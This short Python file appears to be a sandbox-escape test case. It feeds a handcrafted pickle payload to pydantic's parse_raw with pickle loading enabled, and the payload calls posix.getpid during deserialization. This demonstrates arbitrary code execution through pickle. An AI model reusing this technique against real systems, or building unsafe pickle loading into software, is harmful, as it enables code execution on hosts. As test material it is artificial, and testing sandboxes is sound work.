# level: language
# category: pickle
# escape proof: the module's `leak` is not None, or the file at $ESCAPE_PROOF exists

from pydantic import RootModel


class A(RootModel[int]):
    pass


leak = A.parse_raw(b"cposix\ngetpid\n(tR.", proto="pickle", allow_pickle=True)
